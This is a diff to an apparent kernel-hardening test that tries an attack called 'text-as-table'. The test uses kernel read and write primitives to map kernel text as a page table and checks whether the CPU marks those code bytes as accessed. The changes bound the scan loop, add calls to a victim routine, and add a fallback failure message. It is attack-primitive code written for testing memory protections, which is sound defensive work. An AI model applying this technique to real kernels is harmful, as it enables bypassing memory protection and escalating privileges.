@@ -21,19 +21,21 @@ ATTACK("text-as-table")
 
 	if (kread64(entry) & PRESENT)
 		failed("something is there");
-	for (u64 at = page;; at += sizeof(words)) {
+	for (u64 at = page; at < page + PAGE; at += sizeof(words)) {
 		kread(at, words, sizeof(words));
 		for (i = 0; i < 8 && !entry_like(words[i]); i++)
 			;
 		if (i == 8)
 			continue;
-		page = at & ~(PAGE - 1);
 		at += 8 * i;
 		keep_bytes(at, 8);
 		poke(entry, physical(page) | KERNEL_DATA);
 		flush(0);
+		// The page is run before, so that it is approved, and after.
+		victim();
 		about_to("read by way of kernel text as a page table");
 		kread64(free + (at - page) / 8 * PAGE);
+		victim();
 		after = kread64(at);
 		if (after == (words[i] | ACCESSED))
 			succeeded("text at %#llx was %#llx and became %#llx", (unsigned long long)at,
@@ -41,4 +43,5 @@ ATTACK("text-as-table")
 		failed("text at %#llx was %#llx and is %#llx", (unsigned long long)at, (unsigned long long)words[i],
 		       (unsigned long long)after);
 	}
+	failed("no bytes there look like an entry");
 }
